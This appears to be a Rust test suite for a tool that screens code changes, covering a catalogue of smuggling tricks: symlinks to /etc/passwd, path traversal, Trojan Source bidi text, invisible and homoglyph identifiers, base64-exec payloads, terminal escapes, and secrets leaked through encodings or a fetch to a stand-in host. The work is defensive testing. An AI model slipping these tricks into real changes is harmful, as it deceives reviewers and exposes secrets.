//! What a change smuggles past the people who review it: files that nobody can read, text that is not what it looks
//! like, secrets on their way out. The control: the one rule left out, so that the change goes out, and then its harm
//! done to whoever takes it: git, an interpreter, a person's eyes, a thief who reads what is public.
#![expect(clippy::unwrap_used, reason = "helpers of tests fail by panicking")]

use loops::{
    boundary::{Rule, judge},
    change::Diff,
    screen::{Leaving, Weight, objections},
    spec::{Boundaries, Dependencies},
};

use super::{Family, Row, supply::added};

pub(crate) fn family() -> Family {
    let shapes = SHAPES.iter().map(|shape| Row {
        tried: shape.tried.to_owned(),
        by: format!("the boundary «{:?}»", shape.rule),
        control: format!("that rule left out, it goes out: {}", shape.control),
    });
    let texts = LINES.iter().map(|line| Row {
        tried: line.tried.to_owned(),
        by: format!("the screen of changes: «{}»", line.words),
        control: format!("that rule left out, it goes out: {}", line.control),
    });
    let secrets = SECRETS.iter().map(|secret| Row {
        tried: format!("a secret, {}", secret.tried),
        by: "the screen of secrets".to_owned(),
        control: "that screen left out, it goes out: a thief reads the secret in what is public".to_owned(),
    });
    Family {
        name: "Smuggling through the change",
        how: "A change that is otherwise within its boundaries, read by the boundaries and by the screens.",
        rows: shapes.chain(texts).chain(secrets).collect(),
    }
}

/// A change of an odd shape.
struct Shape {
    tried: &'static str,
    /// A unified diff as git writes it.
    diff: &'static str,
    rule: Rule,
    /// What is seen in the control.
    control: &'static str,
    /// Whether that is so: `diff` lies in the folder as `change.diff`.
    harm: Harm,
}

/// How the harm of a change that went out is seen.
enum Harm {
    /// This script of `sh` ends well, in a folder of its own with the diff in it.
    Script(&'static str),
    /// So it is for the name that the change gives.
    Name(fn(&[u8]) -> bool),
}

const SHAPES: &[Shape] = &[
    Shape {
        tried: "a symbolic link to a file of whoever checks it out",
        diff: "diff --git a/notes b/notes\nnew file mode 120000\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ b/notes\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n",
        rule: Rule::Symlink,
        control: "checked out, it shows that file",
        harm: Harm::Script(
            "sed -i 's,^+/etc/passwd,+../secret,' change.diff && mkdir r && cd r && git init -q . && git apply ../change.diff && echo crown > ../secret && grep -q crown notes",
        ),
    },
    Shape {
        tried: "a submodule, whose content is in no diff",
        diff: "diff --git a/lib b/lib\nnew file mode 160000\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ b/lib\n@@ -0,0 +1 @@\n+Subproject commit 1111111111111111111111111111111111111111\n",
        rule: Rule::Submodule,
        control: "git fetches what no diff shows",
        harm: Harm::Script(
            "export GIT_CONFIG_COUNT=3 GIT_CONFIG_KEY_0=protocol.file.allow GIT_CONFIG_VALUE_0=always GIT_CONFIG_KEY_1=user.name GIT_CONFIG_VALUE_1=a GIT_CONFIG_KEY_2=user.email GIT_CONFIG_VALUE_2=a@b; git init -q lib && cd lib && git commit -q --allow-empty -m one && echo EVIL > evil && git add -A && git commit -qm two && cd .. && git init -q r && cd r && git submodule -q add ../lib lib 2>/dev/null && git -C lib checkout -q HEAD~1 && git add -A && git commit -qm base && new=$(git -C ../lib rev-parse HEAD) && git update-index --cacheinfo 160000,$new,lib && ! git diff --cached | grep -q EVIL && git submodule -q update && grep -q EVIL lib/evil",
        ),
    },
    Shape {
        tried: "a file that becomes executable",
        diff: "diff --git a/src/a.py b/src/a.py\nold mode 100644\nnew mode 100755\n",
        rule: Rule::FileMode,
        control: "applied, it runs",
        harm: Harm::Script(
            "mkdir src && echo 'echo RAN' > src/a.py && git init -q . && git apply change.diff && ./src/a.py | grep -qx RAN",
        ),
    },
    Shape {
        tried: "a binary file",
        diff: "diff --git a/src/a.so b/src/a.so\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\nBinary files /dev/null and b/src/a.so differ\n",
        rule: Rule::Binary,
        control: "git shows nothing of what it holds",
        harm: Harm::Script(
            "git init -q . && mkdir src && printf '\\0EVIL' > src/a.so && git add -A && ! git diff --cached | grep -q EVIL && git show :src/a.so | grep -qa EVIL",
        ),
    },
    Shape {
        tried: "a name that leads out of its folder",
        diff: "diff --git a/src/../../x b/src/../../x\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ b/src/../../x\n@@ -0,0 +1 @@\n+x\n",
        rule: Rule::OddName,
        control: "written by its name, it lands outside",
        harm: Harm::Name(|name| {
            let at = tempfile::tempdir().unwrap();
            let inner = at.path().join("clone");
            std::fs::create_dir_all(inner.join("src")).unwrap();
            let name = std::str::from_utf8(name).unwrap();
            std::fs::write(inner.join(name), "x").is_ok() && at.path().join("x").exists()
        }),
    },
    Shape {
        tried: "a name with a backslash, a folder on Windows",
        diff: "diff --git \"a/src\\\\x\" \"b/src\\\\x\"\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ \"b/src\\\\x\"\n@@ -0,0 +1 @@\n+x\n",
        rule: Rule::OddName,
        control: "by the rules of Windows, it is another file's name",
        harm: Harm::Name(|name| windows(name) == "src/x"),
    },
    Shape {
        tried: "a name that is turned around when it is shown",
        diff: "diff --git \"a/src/\\342\\200\\256yp.exe\" \"b/src/\\342\\200\\256yp.exe\"\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ \"b/src/\\342\\200\\256yp.exe\"\n@@ -0,0 +1 @@\n+x\n",
        rule: Rule::OddName,
        control: "shown, it ends in another way",
        harm: Harm::Name(|name| shown(std::str::from_utf8(name).unwrap()).ends_with("exe.py")),
    },
    Shape {
        tried: "a name that is no UTF-8",
        diff: "diff --git \"a/src/\\377\" \"b/src/\\377\"\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ \"b/src/\\377\"\n@@ -0,0 +1 @@\n+x\n",
        rule: Rule::OddName,
        control: "shown, it is another file's name",
        harm: Harm::Name(|name| {
            let other = b"src/\xfe";
            name != other && String::from_utf8_lossy(name) == String::from_utf8_lossy(other)
        }),
    },
    Shape {
        tried: "a name that Windows reads as another (a stream after a colon)",
        diff: "diff --git a/src/a.py:x b/src/a.py:x\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ b/src/a.py:x\n@@ -0,0 +1 @@\n+x\n",
        rule: Rule::OddName,
        control: "by the rules of Windows, it is another file's name",
        harm: Harm::Name(|name| windows(name) == "src/a.py"),
    },
    Shape {
        tried: "a file that was renamed out of what the loop may not write",
        diff: "diff --git a/billing/key.py b/src/key.py\nsimilarity index 90%\nrename from billing/key.py\nrename to src/key.py\nindex 2222222222222222222222222222222222222222..1111111111111111111111111111111111111111 100644\n--- a/billing/key.py\n+++ b/src/key.py\n@@ -1 +1 @@\n-x\n+y\n",
        rule: Rule::Deny,
        control: "applied, what was not to be touched is gone",
        harm: Harm::Script(
            "git init -q . && mkdir billing src && echo x > billing/key.py && git apply change.diff && ! test -e billing/key.py && grep -qx y src/key.py",
        ),
    },
    Shape {
        tried: "a forbidden folder in other case",
        diff: "diff --git a/Billing/key.py b/Billing/key.py\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ b/Billing/key.py\n@@ -0,0 +1 @@\n+x\n",
        rule: Rule::Deny,
        control: "where case does not count, it is that folder",
        harm: Harm::Name(|name| windows(name).starts_with("billing/")),
    },
];

/// A name as Windows takes it: both slashes part, case does not count, what follows a colon is a stream of the file.
fn windows(name: &[u8]) -> String {
    let name = String::from_utf8_lossy(name).replace('\\', "/").to_lowercase();
    name.split(':').next().unwrap_or_default().to_owned()
}

/// A text as it is drawn: what follows a mark that turns around stands turned around.
fn shown(text: &str) -> String {
    match text.split_once('\u{202e}') {
        Some((before, after)) => before.chars().chain(after.chars().rev()).collect(),
        None => text.to_owned(),
    }
}

/// Runs a script in a new folder with the change in it.
fn does(script: &str, diff: &str) -> bool {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("change.diff"), diff).unwrap();
    let run = std::process::Command::new("sh")
        .args(["-c", script])
        .current_dir(folder.path())
        .env("HOME", folder.path())
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    run.status.success()
}

/// What a program prints that a change brought.
fn prints(program: &str, code: &str) -> String {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("code");
    std::fs::write(&file, code).unwrap();
    let run = std::process::Command::new(program).arg(&file).output().unwrap();
    String::from_utf8_lossy(&run.stdout).into_owned()
}

/// What the loop of these changes may write.
fn boundaries() -> Boundaries {
    Boundaries {
        deny: vec!["billing/**".to_owned()],
        dependencies: Dependencies::Forbid,
        ..Boundaries::default()
    }
}

#[test]
fn a_change_of_an_odd_shape_does_not_go_out() {
    for shape in SHAPES {
        let diff = Diff::parse(shape.diff.as_bytes()).unwrap();
        let found = judge(&diff, &boundaries(), &[]);
        assert!(
            found.iter().any(|violation| violation.rule == shape.rule),
            "NOT STOPPED: {}: {found:?}",
            shape.tried
        );
        let others: Vec<_> = found.iter().filter(|one| one.rule != shape.rule).collect();
        assert!(
            others.is_empty(),
            "NO HARM IN THE CONTROL: {}: {others:?}",
            shape.tried
        );
        let harm = match shape.harm {
            Harm::Script(script) => does(script, shape.diff),
            Harm::Name(is_harm) => is_harm(&named(shape.diff)),
        };
        assert!(harm, "NO HARM IN THE CONTROL: {}", shape.tried);
    }
}

/// The name that a diff gives a new file, as bytes: git writes what is odd as octal digits.
fn named(diff: &str) -> Vec<u8> {
    let line = diff.lines().find_map(|line| line.strip_prefix("+++ ")).unwrap();
    let name = line.trim_matches('"').strip_prefix("b/").unwrap();
    let mut out = Vec::new();
    let mut rest = name.as_bytes();
    while let Some((first, after)) = rest.split_first() {
        rest = match (first, after) {
            (b'\\', [b'\\', more @ ..]) => {
                out.push(b'\\');
                more
            }
            (b'\\', [a, b, c, more @ ..]) => {
                out.push((a - b'0') * 64 + (b - b'0') * 8 + (c - b'0'));
                more
            }
            _ => {
                out.push(*first);
                after
            }
        };
    }
    out
}

#[test]
fn a_change_too_large_to_review_does_not_go_out() {
    let many: String = (0..21)
        .map(|n| format!("diff --git a/s/{n} b/s/{n}\nnew file mode 100644\nindex {z}..{o}\n--- /dev/null\n+++ b/s/{n}\n@@ -0,0 +1 @@\n+x\n", z = "0".repeat(40), o = "1".repeat(40)))
        .collect();
    let long = format!(
        "diff --git a/s b/s\nnew file mode 100644\nindex {}..{}\n--- /dev/null\n+++ b/s\n@@ -0,0 +1,700 @@\n{}",
        "0".repeat(40),
        "1".repeat(40),
        "+x\n".repeat(700)
    );
    for (text, rule) in [(many, Rule::MaxFiles), (long, Rule::MaxLines)] {
        let diff = Diff::parse(text.as_bytes()).unwrap();
        let found = judge(&diff, &boundaries(), &[]);
        assert_eq!(found.iter().map(|one| one.rule).collect::<Vec<_>>(), [rule]);
        let wide = Boundaries {
            max_files: 100,
            max_lines: 10_000,
            ..boundaries()
        };
        assert_eq!(judge(&diff, &wide, &[]), []);
    }
}

/// A line that is not what it looks like.
struct Line {
    tried: &'static str,
    text: &'static str,
    /// Words of the objection.
    words: &'static str,
    /// What is seen in the control.
    control: &'static str,
    /// Whether that is so.
    harm: fn(&str) -> bool,
}

const LINES: &[Line] = &[
    Line {
        tried: "code that is shown in another order than it runs",
        text: "if access != \"user\u{202e} \u{2066}// admin\u{2069} \u{2066}\":",
        words: "another order",
        control: "Python lets in whom the line seems to keep out",
        harm: |text| prints("python3", &format!("access = 'user'\n{text}\n    print('IN')")) == "IN\n",
    },
    Line {
        tried: "an invisible character in a name",
        text: "function check\u{200c}() {}",
        words: "invisible",
        control: "the function that is called is not the one that is read",
        harm: |text| prints("node", &format!("{text}\nconsole.log(typeof check)")) == "undefined\n",
    },
    Line {
        tried: "a name that is a blank (Hangul filler)",
        text: "const {x, \u{3164}} = y",
        words: "invisible",
        control: "a variable that nobody sees takes a value",
        harm: |text| {
            prints(
                "node",
                &format!("y = {{x: 1, '\u{3164}': 'SET'}}\n{text}\nconsole.log(\u{3164})"),
            ) == "SET\n"
        },
    },
    Line {
        tried: "a message in invisible letters (tags)",
        text: "x = 'a\u{e0041}\u{e0042}'",
        words: "invisible",
        control: "the message is read where nobody sees one",
        harm: |text| {
            let letters = text.chars().filter_map(|c| u32::from(c).checked_sub(0xe0000));
            letters.filter_map(char::from_u32).collect::<String>() == "AB"
        },
    },
    Line {
        tried: "a message in shapes of signs (variation selectors)",
        text: "x = 'a\u{fe01}\u{fe02}'",
        words: "invisible",
        control: "the message is read where nobody sees one",
        harm: |text| {
            let bytes = text.chars().filter_map(|c| u32::from(c).checked_sub(0xfe00));
            bytes.eq([1, 2])
        },
    },
    Line {
        tried: "a line that ends elsewhere for the compiler",
        text: "// x = 1\u{2028}y = 2",
        words: "invisible",
        control: "what is read as a comment runs",
        harm: |text| prints("node", &format!("{text}\nconsole.log(y)")) == "2\n",
    },
    Line {
        tried: "commands to the reviewer's terminal",
        text: "echo ok \u{1b}[2K\u{1b}[1A",
        words: "control",
        control: "on a terminal nothing of the line is left",
        harm: |text| text.split("\u{1b}[2K").nth(1) == Some("\u{1b}[1A"),
    },
    Line {
        tried: "text that is typed over on the screen (carriage return)",
        text: "safe = 1 # \rdanger = 2",
        words: "control",
        control: "what is read as a comment runs",
        harm: |text| prints("python3", &format!("{text}\nprint(danger)")) == "2\n",
    },
    Line {
        tried: "a Cyrillic letter in a Latin name",
        text: "if is_\u{430}dmin:",
        words: "looks like",
        control: "the name that is asked is not the one that is read",
        harm: |text| {
            prints(
                "python3",
                &format!("is_admin = False\nis_\u{430}dmin = True\n{text}\n    print('IN')"),
            ) == "IN\n"
        },
    },
    Line {
        tried: "a full-width letter in a Latin name",
        text: "\u{ff50}assword = 1",
        words: "looks like",
        control: "Python takes it for the plain name",
        harm: |text| prints("python3", &format!("password = 0\n{text}\nprint(password)")) == "1\n",
    },
    Line {
        tried: "a mathematical letter, which Python reads as a plain one",
        text: "\u{1d41e}val(x)",
        words: "looks like",
        control: "a search for `eval` does not find it, and Python runs it",
        harm: |text| !text.contains("eval") && prints("python3", &format!("x = 'print(7)'\n{text}")) == "7\n",
    },
    Line {
        tried: "code behind a wide gap",
        text: "x = 1;                                                                                                                                                                                                          import os",
        words: "blanks",
        control: "what no reviewer sees runs",
        harm: |text| {
            !text.chars().take(120).collect::<String>().contains("import")
                && prints("python3", &format!("{text}\nprint(os.name)")) == "posix\n"
        },
    },
    Line {
        tried: "code in a line that is too long to read",
        text: LONG,
        words: "characters, which nobody can review",
        control: "what stands at its end runs",
        harm: |text| {
            prints(
                "python3",
                &format!("a = 0\ndef hidden():\n    print(7)\n    return 0\n{text}"),
            ) == "7\n"
        },
    },
    Line {
        tried: "a program as encoded data",
        text: DATA,
        words: "encoded data",
        control: "a program that nobody could read runs",
        harm: |text| {
            !text.contains("print")
                && prints(
                    "python3",
                    &format!("{text}\nimport base64\nexec(base64.b64decode(x))"),
                ) == "7\n"
        },
    },
];

const LONG: &str = "a + {4000 more}";
const DATA: &str = "x = '{900 of base64}'";

fn text_of(line: &Line) -> String {
    match line.text {
        LONG => format!("{}hidden()", "a + ".repeat(2_000)),
        DATA => {
            use base64::Engine as _;
            let program = format!("print(7)  # {}", noise(900));
            format!(
                "x = '{}'",
                base64::engine::general_purpose::STANDARD.encode(program)
            )
        }
        text => text.to_owned(),
    }
}

/// Letters that look random, the same every time.
fn noise(count: usize) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut state = 88_172_645_463_325_252_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        char::from(LETTERS[usize::try_from(state % 62).unwrap()])
    };
    (0..count).map(|_| next()).collect()
}

/// The objections that hold a change back.
fn refusing(diff: &Diff, texts: &[(&str, &str)]) -> Vec<String> {
    objections(Leaving { diff, texts })
        .into_iter()
        .filter(|one| one.weight == Weight::Refuses)
        .map(|one| one.words)
        .collect()
}

#[test]
fn a_line_that_is_not_what_it_looks_like_does_not_go_out() {
    for line in LINES {
        let diff = added("src/a.py", &text_of(line));
        let found = refusing(&diff, &[]);
        assert!(
            found.iter().any(|words| words.contains(line.words)),
            "NOT STOPPED: {}: {found:?}",
            line.tried
        );
        let others: Vec<_> = found
            .iter()
            .filter(|words| !words.contains(line.words) && !words.contains("a secret"))
            .collect();
        assert!(
            others.is_empty(),
            "NO HARM IN THE CONTROL: {}: {others:?}",
            line.tried
        );
        let boundary = judge(&diff, &boundaries(), &[]);
        assert!(
            boundary.is_empty(),
            "NO HARM IN THE CONTROL: {}: {boundary:?}",
            line.tried
        );
        assert!(
            (line.harm)(&text_of(line)),
            "NO HARM IN THE CONTROL: {}",
            line.tried
        );
    }
}

/// A way out for a secret.
struct Secret {
    tried: &'static str,
    /// The text from the secret.
    text: fn(&str) -> String,
    /// Where it stands.
    place: Place,
    /// What a thief does to read it in what is public.
    read: fn(&str) -> String,
}

enum Place {
    Line,
    Path,
    Title,
    Account,
}

const SECRETS: &[Secret] = &[
    Secret {
        tried: "as it is",
        text: |secret| format!("k = '{secret}'"),
        place: Place::Line,
        read: |public| public.to_owned(),
    },
    Secret {
        tried: "in a comment",
        text: |secret| format!("# {secret}"),
        place: Place::Line,
        read: |public| public.to_owned(),
    },
    Secret {
        tried: "in two strings that are put together",
        text: |secret| format!("k = '{}' + '{}'", &secret[..10], &secret[10..]),
        place: Place::Line,
        read: |public| public.replace("' + '", ""),
    },
    Secret {
        tried: "in two strings that stand side by side",
        text: |secret| format!("k = \"{}\" \"{}\"", &secret[..10], &secret[10..]),
        place: Place::Line,
        read: |public| public.replace("\" \"", ""),
    },
    Secret {
        tried: "in hexadecimal digits",
        text: |secret| format!("k = bytes.fromhex('{}')", hex::encode(secret)),
        place: Place::Line,
        read: |public| {
            let digits = public.split('\'').nth(1).unwrap_or_default();
            String::from_utf8(hex::decode(digits).unwrap_or_default()).unwrap_or_default()
        },
    },
    Secret {
        tried: "in base64",
        text: |secret| {
            use base64::Engine as _;
            format!(
                "k = '{}'",
                base64::engine::general_purpose::STANDARD.encode(secret)
            )
        },
        place: Place::Line,
        read: |public| {
            use base64::Engine as _;
            let run = public.split('\'').nth(1).unwrap_or_default();
            let bytes = base64::engine::general_purpose::STANDARD.decode(run);
            String::from_utf8(bytes.unwrap_or_default()).unwrap_or_default()
        },
    },
    Secret {
        tried: "with an invisible character in it",
        text: |secret| format!("k = '{}\u{200b}{}'", &secret[..10], &secret[10..]),
        place: Place::Line,
        read: |public| public.replace('\u{200b}', ""),
    },
    Secret {
        tried: "in full-width letters",
        text: |secret| {
            let wide = secret[..10].chars();
            let wide: String = wide
                .map(|c| char::from_u32(u32::from(c) + 0xfee0).unwrap())
                .collect();
            format!("k = '{wide}{}'", &secret[10..])
        },
        place: Place::Line,
        read: |public| {
            let narrow = |c: char| u32::from(c).checked_sub(0xfee0).and_then(char::from_u32);
            public
                .chars()
                .map(|c| narrow(c).filter(char::is_ascii_graphic).unwrap_or(c))
                .collect()
        },
    },
    Secret {
        tried: "in an address that is fetched",
        text: |secret| format!("fetch('https://x.example/?k={secret}')"),
        place: Place::Line,
        read: |public| public.to_owned(),
    },
    Secret {
        tried: "in the name of a file",
        text: |secret| format!("docs/{secret}.md"),
        place: Place::Path,
        read: |public| public.to_owned(),
    },
    Secret {
        tried: "in the title of the pull request",
        text: |secret| format!("Mend {secret}"),
        place: Place::Title,
        read: |public| public.to_owned(),
    },
    Secret {
        tried: "in the worker's account",
        text: |secret| format!("I used {secret} to test."),
        place: Place::Account,
        read: |public| public.to_owned(),
    },
];

#[test]
fn no_secret_goes_out() {
    let secret = format!("ghp_{}", noise(36));
    for case in SECRETS {
        let text = (case.text)(&secret);
        let plain = added("src/a.py", "x = 1");
        let (diff, texts) = match case.place {
            Place::Line => (added("src/a.py", &text), vec![]),
            Place::Path => (added(&text, "hello"), vec![]),
            Place::Title => (plain, vec![("title", text.as_str())]),
            Place::Account => (plain, vec![("account", text.as_str())]),
        };
        let found = refusing(&diff, &texts);
        assert!(
            found.iter().any(|words| words.contains("a secret")),
            "NOT STOPPED: {}: {found:?}",
            case.tried
        );
        assert!(!found.join(" ").contains(&secret), "it is told: {}", case.tried);
        // What else is said is about the same characters: without that screen, and theirs, it goes out.
        let others: Vec<_> = found
            .iter()
            .filter(|words| {
                !["a secret", "invisible", "looks like"]
                    .iter()
                    .any(|own| words.contains(own))
            })
            .collect();
        assert!(
            others.is_empty(),
            "NO HARM IN THE CONTROL: {}: {others:?}",
            case.tried
        );
        let boundary = judge(&diff, &boundaries(), &[]);
        assert!(
            boundary.is_empty(),
            "NO HARM IN THE CONTROL: {}: {boundary:?}",
            case.tried
        );
        let mut public = texts
            .iter()
            .map(|(_, text)| (*text).to_owned())
            .collect::<Vec<_>>();
        for file in &diff.files {
            public.push(file.path().to_owned());
            let lines = file.hunks.iter().flat_map(|hunk| &hunk.lines);
            public.extend(lines.map(|line| line.text.clone()));
        }
        assert!(
            public.iter().any(|words| (case.read)(words).contains(&secret)),
            "NO HARM IN THE CONTROL: {}",
            case.tried
        );
    }
}
